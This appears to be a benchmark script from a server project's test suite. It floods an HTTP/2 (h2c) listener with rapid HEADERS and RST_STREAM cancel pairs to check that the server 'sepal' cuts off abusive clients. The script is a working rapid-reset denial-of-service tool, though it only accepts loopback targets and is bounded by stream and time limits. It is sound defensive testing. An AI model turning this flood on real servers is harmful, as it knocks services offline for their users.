#!/usr/bin/env python3
"""HTTP/2 rapid-reset flood against an h2c listener on this machine (bench/memory.sh).

Each connection sends the preface, then HEADERS (a gRPC call) + RST_STREAM(CANCEL) pairs as
fast as it can until the server closes it (sepal answers GOAWAY ENHANCE_YOUR_CALM after its
glitch budget) or it has sent --per-connection streams; then it reconnects. Bounded by
--streams in total and --seconds. Standard library only; loopback targets only.

  rapid_reset.py --target 127.0.0.1:PORT [--streams 2000000] [--connections 200]
                 [--per-connection 2000] [--seconds 60]
Prints one JSON line: streams sent, connections made, seconds.
"""
import argparse
import asyncio
import ipaddress
import json
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream_id) + payload


def literal(name_index, value):
    # Literal header field without indexing, indexed name (4-bit prefix), no Huffman.
    value = value.encode()
    assert len(value) < 127
    if name_index < 15:
        head = bytes([name_index])
    else:
        head = bytes([0x0F, name_index - 15])
    return head + bytes([len(value)]) + value


def header_block(authority):
    return (b"\x83"  # :method POST
            + b"\x86"  # :scheme http
            + literal(4, "/sepal.test.Echo/Unary")  # :path
            + literal(1, authority)  # :authority
            + literal(31, "application/grpc")  # content-type
            + b"\x00\x02te\x08trailers")


async def one_connection(host, port, per_connection, budget, stats):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        await asyncio.sleep(0.05)
        return
    stats["connections"] += 1
    block = header_block(f"{host}:{port}")
    writer.write(PREFACE + frame(0x4, 0, 0))  # SETTINGS
    closed = asyncio.Event()

    async def drain_reads():
        try:
            while await reader.read(65536):
                pass
        except OSError:
            pass
        closed.set()

    reads = asyncio.create_task(drain_reads())
    stream_id = 1
    sent = 0
    try:
        while sent < per_connection and budget[0] > 0 and not closed.is_set():
            batch = bytearray()
            for _ in range(min(100, per_connection - sent, budget[0])):
                batch += frame(0x1, 0x4, stream_id, block)  # HEADERS, END_HEADERS
                batch += frame(0x3, 0, stream_id, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
                stream_id += 2
                sent += 1
                budget[0] -= 1
            writer.write(bytes(batch))
            await writer.drain()
    except OSError:
        pass
    stats["streams"] += sent
    writer.close()
    try:
        await asyncio.wait_for(writer.wait_closed(), 1)
    except (OSError, asyncio.TimeoutError):
        pass
    reads.cancel()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--streams", type=int, default=2_000_000)
    parser.add_argument("--connections", type=int, default=200)
    parser.add_argument("--per-connection", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=60)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit("rapid_reset.py: loopback targets only")
    budget = [args.streams]
    stats = {"streams": 0, "connections": 0}
    start = time.monotonic()
    deadline = start + args.seconds

    async def loop():
        while budget[0] > 0 and time.monotonic() < deadline:
            await one_connection(host, int(port), args.per_connection, budget, stats)

    await asyncio.gather(*(loop() for _ in range(args.connections)))
    stats["seconds"] = round(time.monotonic() - start, 2)
    print(json.dumps(stats))


if __name__ == "__main__":
    asyncio.run(main())
